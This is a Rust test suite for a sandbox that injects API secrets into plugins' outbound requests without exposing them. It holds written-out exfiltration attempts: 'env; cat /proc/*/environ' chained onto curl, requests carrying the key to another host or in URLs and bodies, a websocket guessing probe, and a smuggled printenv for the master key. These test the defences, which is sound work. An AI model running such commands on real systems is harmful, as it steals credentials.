//! Secrets that a plugin uses without having them.

use crate::program::Done;
use crate::world::World;

const SECRET: &str = "sk-live/8f2z\"c+d=91";
const PLACE: &str = "API_KEY@allowed.example";
const NAME: &str = "network.request=allowed.example";

/// Runs with the secret in the operator's own environment.
fn run(world: &World, options: &[&str], program: &[&str]) -> Done {
    world.with_variable("API_KEY", SECRET, options, program)
}

fn curl(world: &World, options: &[&str], words: &str) -> Done {
    let options = [options, &["-g", "process.execute"]].concat();
    run(world, &options, &["sh", "-c", &format!("curl -sS -m 5 {words}")])
}

fn basic(text: &str) -> String {
    // As curl writes it; the standard library has no base64.
    let mut child = std::process::Command::new("base64")
        .arg("-w0")
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), text.as_bytes()).unwrap();
    String::from_utf8(child.wait_with_output().unwrap().stdout).unwrap()
}

#[test]
fn a_secret_goes_out_in_a_header_and_the_plugin_never_has_it() {
    let mut world = World::new();
    let options = ["--secret", PLACE, "-g", NAME];
    let done = curl(
        &world,
        &options,
        "-H \"Authorization: Bearer $API_KEY\" https://allowed.example/x; env; cat /proc/*/environ",
    );
    assert!(done.stdout.starts_with("hello allowed.example GET /x 0\n"), "{done:?}");
    assert!(done.stdout.contains("API_KEY=rfsecret_"), "{done:?}");
    assert!(!format!("{done:?}").contains(SECRET), "{done:?}");
    let heads = world.heads();
    assert!(heads.contains(&format!("Authorization: Bearer {SECRET}")), "{heads}");
    // What was allowed is in the log, and what it is is not.
    let records = world.user.records();
    let text = format!("{records:?}");
    assert!(text.contains("API_KEY@GET https://allowed.example:443/x"), "{text}");
    assert!(!text.contains(SECRET) && !text.contains("8f2z"), "{text}");
}

#[test]
fn it_goes_out_as_the_password_of_basic_authentication() {
    let mut world = World::new();
    let options = ["--secret", PLACE, "-g", NAME];
    let done = curl(&world, &options, "-u \"user:$API_KEY\" https://allowed.example/x");
    assert!(done.stdout.starts_with("hello "), "{done:?}");
    let expected = format!("Basic {}", basic(&format!("user:{SECRET}")));
    assert!(world.heads().contains(&expected), "{}", world.heads());
}

#[test]
fn elsewhere_what_stands_for_it_goes_out_as_it_is() {
    let mut world = World::new();
    let options = [
        "--secret",
        PLACE,
        "-g",
        NAME,
        "-g",
        "network.request=sibling.example",
        "-g",
        "network.request=allowed.example:80",
    ];
    for words in [
        // To another host, without TLS, in the address, in the body.
        "-k -H \"X-Key: $API_KEY\" https://sibling.example/",
        "-H \"X-Key: $API_KEY\" http://allowed.example/",
        "\"https://allowed.example/$API_KEY?key=$API_KEY\"",
        "-d \"$API_KEY\" https://allowed.example/",
        "-H \"$API_KEY: x\" https://allowed.example/",
    ] {
        let done = curl(&world, &options, words);
        assert!(!format!("{done:?}").contains(SECRET), "{words}: {done:?}");
        let heads = world.heads();
        assert!(!heads.contains(SECRET) && !heads.contains("8f2z"), "{words}: {heads}");
    }
}

#[test]
fn a_place_with_a_path_gets_it_there_only() {
    let mut world = World::new();
    let options = ["--secret", "API_KEY@https://allowed.example/v1/*", "-g", NAME];
    let done = curl(&world, &options, "-H \"X-Key: $API_KEY\" https://allowed.example/v1/a");
    assert!(done.stdout.starts_with("hello "), "{done:?}");
    assert!(world.heads().contains(SECRET));
    let done = curl(&world, &options, "-H \"X-Key: $API_KEY\" https://allowed.example/v2/a");
    assert!(done.stderr.contains("denied: secrets.use"), "{done:?}");
    assert!(!world.heads().contains(SECRET));
}

#[test]
fn a_server_that_shows_what_it_was_sent_shows_no_secret() {
    let mut world = World::new();
    let options = ["--secret", PLACE, "-g", NAME];
    for how in ["plain", "json", "base64", "chunks", "header", "hex"] {
        let words = format!(
            "-i -H \"X-Key: $API_KEY\" -u \"u:$API_KEY\" https://allowed.example/reflect?{how}"
        );
        let done = curl(&world, &options, &words);
        assert!(done.stdout.contains("200 OK") && done.stdout.contains("***"), "{how}: {done:?}");
        for part in ["sk-live", "8f2z", &basic("8f2z"), "c+d=91", "3866327a"] {
            assert!(!done.stdout.contains(part), "{how}, {part}: {done:?}");
        }
        assert!(world.heads().contains(SECRET), "it was sent");
    }
    // One that compresses though nobody asked for it is not heard.
    for how in ["gzip", "deflate"] {
        let words = format!("-i -H \"X-Key: $API_KEY\" https://allowed.example/reflect?{how}");
        let done = curl(&world, &options, &words);
        assert_eq!(done.stdout, "", "{how}: {done:?}");
        assert!(done.stderr.contains("no secret could be found in it"), "{how}: {done:?}");
    }
}

#[test]
fn a_server_that_shows_pieces_on_demand_shows_no_secret() {
    let mut world = World::new();
    let options = ["--secret", PLACE, "-g", NAME];
    let words = "-H \"X-Key: $API_KEY\" -r 0-9 https://allowed.example/reflect?range";
    let done = curl(&world, &options, words);
    assert!(done.stdout.contains("X-Key: ***"), "the whole of it comes: {done:?}");
    let heads = world.heads();
    assert!(heads.contains(SECRET) && !heads.contains("Range:"), "{heads}");
}

#[test]
fn an_answer_without_a_body_ends_in_order() {
    let world = World::new();
    let options = ["--secret", PLACE, "-g", NAME];
    let done =
        curl(&world, &options, "-I -H \"X-Key: $API_KEY\" https://allowed.example/reflect?chunks");
    assert!(done.stdout.contains("200 OK"), "{done:?}");
    let records = format!("{:?}", world.user.records());
    assert!(!records.contains("effect_failed") && !records.contains("unexpected"), "{records}");
}

#[test]
fn a_plugin_cannot_guess_a_secret_letter_by_letter_inside_a_websocket() {
    let mut world = World::new();
    // The host says everything back, as every server does with a ping. What is asked
    // for here is what it would answer.
    let code = "import os, socket, ssl\n\
        c = ssl.create_default_context()\n\
        def talk(upgrade, *said):\n\
        \x20   s = c.wrap_socket(socket.create_connection(('allowed.example', 443), 5), server_hostname='allowed.example')\n\
        \x20   s.settimeout(2)\n\
        \x20   s.sendall(('GET /v1/echo HTTP/1.1\\r\\nHost: allowed.example\\r\\nConnection: Upgrade\\r\\nUpgrade: ' + upgrade +\n\
        \x20       '\\r\\nSec-WebSocket-Extensions: permessage-deflate\\r\\nX-Key: ' + os.environ['API_KEY'] + '\\r\\n\\r\\n').encode())\n\
        \x20   head = b''\n\
        \x20   while not head.endswith(b'\\r\\n\\r\\n'): head += s.recv(1)\n\
        \x20   for words in said:\n\
        \x20       s.sendall(words)\n\
        \x20       try: print(s.recv(100))\n\
        \x20       except OSError: print('held')\n\
        talk('websocket', b'\\x8a\\x03sk-', b'\\x8a\\x03sk.')\n\
        talk('other', b'sk-')\n";
    let options = ["--secret", PLACE, "-g", NAME];
    let done = run(&world, &options, &["/usr/bin/python3", "-c", code]);
    assert_eq!(done.stdout, "b'\\x8a\\x03sk-'\nb'\\x8a\\x03sk.'\nb'sk-'\n", "{done:?}");
    let heads = world.heads();
    assert_eq!(heads.matches(SECRET).count(), 1, "{heads}");
    assert_eq!(heads.matches("permessage-deflate").count(), 0, "{heads}");
    assert!(done.stderr.contains("where another protocol may begin"), "{done:?}");
}

#[test]
fn a_secret_of_the_store_goes_out_and_a_new_value_counts_from_the_next_run() {
    let mut world = World::new();
    let key = "5e".repeat(32);
    let set = |value: &str| {
        let invocation = world.user.ringfence(["secret", "set", "STORED_KEY"]);
        let done = invocation.env("RINGFENCE_SECRETS_KEY", &key).input(value).run();
        assert_eq!(done.code, Some(0), "{done:?}");
    };
    let go = |secret: &str, key: &str| {
        let options = ["--secret", secret, "-g", NAME, "-g", "process.execute"];
        let words = "curl -sS -m 5 -H \"X-Key: $STORED_KEY\" https://allowed.example/x; \
            env; cat /proc/*/environ";
        world.with_variable("RINGFENCE_SECRETS_KEY", key, &options, &["sh", "-c", words])
    };
    set("sk-stored-first-value");
    let first = go("STORED_KEY@allowed.example", &key);
    set("sk-stored-second-value");
    let second = go("STORED_KEY=store@allowed.example", &key);
    for done in [&first, &second] {
        assert!(done.stdout.starts_with("hello allowed.example GET /x 0\n"), "{done:?}");
        let text = format!("{done:?}");
        assert!(!text.contains("sk-stored") && !text.contains(&key), "{text}");
    }
    let wrong = go("STORED_KEY@allowed.example", &"5f".repeat(32));
    assert!(wrong.stdout.is_empty() && wrong.stderr.contains("another key"), "{wrong:?}");
    // A program that is asked for one secret is not given the key to all of them.
    let asked = go("STORED_KEY=command:printenv RINGFENCE_SECRETS_KEY@allowed.example", &key);
    assert!(asked.stdout.is_empty() && asked.stderr.contains("printenv"), "{asked:?}");
    let unset = go("UNSET_KEY@allowed.example", &key);
    assert!(unset.stdout.is_empty() && unset.code == Some(2), "{unset:?}");
    assert!(unset.stderr.contains("ringfence secret set UNSET_KEY"), "{unset:?}");
    let heads = world.heads();
    let at = |text: &str| heads.find(text).unwrap_or_else(|| panic!("no {text} in {heads}"));
    assert!(at("X-Key: sk-stored-first-value") < at("X-Key: sk-stored-second-value"));
    assert!(!format!("{:?}", world.user.records()).contains("sk-stored"));
}

#[test]
fn unmodified_clients_use_it() {
    let mut world = World::new();
    let code = "import os, urllib.request\n\
        r = urllib.request.Request('https://allowed.example/p', headers={'X-Key': os.environ['API_KEY']})\n\
        for _ in range(3): print(urllib.request.urlopen(r, timeout=5).read().decode(), end='')\n";
    let options = ["--secret", PLACE, "-g", NAME];
    let done = run(&world, &options, &["/usr/bin/python3", "-c", code]);
    assert_eq!(done.stdout, "hello allowed.example GET /p 0\n".repeat(3), "{done:?}");
    assert_eq!(world.heads().matches(SECRET).count(), 3);
    let code = "const go = async () => { for (let i = 0; i < 3; i++) {\n\
        const a = await fetch('https://allowed.example/n', {headers: {'x-key': process.env.API_KEY}})\n\
        console.log((await a.text()).trim()) } }; go()";
    let done = run(&world, &options, &["node", "-e", code]);
    assert_eq!(done.stdout, "hello allowed.example GET /n 0\n".repeat(3), "{done:?}");
    assert_eq!(world.heads().matches(SECRET).count(), 3);
}

#[test]
fn a_secret_that_is_not_there_or_no_secret_starts_nothing() {
    let world = World::new();
    let starts = |secret: &str, value: &str| {
        world.with_variable("API_KEY", value, &["--secret", secret, "-g", NAME], &["echo", "ran"])
    };
    for (secret, value) in [
        ("OTHER_KEY@allowed.example", SECRET),
        ("API_KEY@allowed.example", "tiny"),
        ("API_KEY@allowed.example", "two\nlines-of-it"),
        ("API_KEY=file:/nowhere/key@allowed.example", SECRET),
        ("API_KEY=command:false@allowed.example", SECRET),
        ("API_KEY@tls-opaque://allowed.example", SECRET),
        ("API_KEY=sk-live-on-the-command-line@allowed.example", SECRET),
    ] {
        let done = starts(secret, value);
        assert!(done.stdout.is_empty() && done.code != Some(0), "{secret}: {done:?}");
        assert!(!done.stderr.contains(value), "{secret}: {done:?}");
    }
    // A yes to a manifest lets no secret out: somebody must say where to.
    let plugin = world
        .user
        .python_plugin("def go(input): return 1\n", "permissions: [secrets.use: API_KEY]\n");
    let done = world.run_plugin(&["--yes"], plugin.to_str().unwrap());
    assert_eq!(done.code, Some(3), "{done:?}");
    assert!(done.stderr.contains("--secret API_KEY@HOST"), "{done:?}");
}
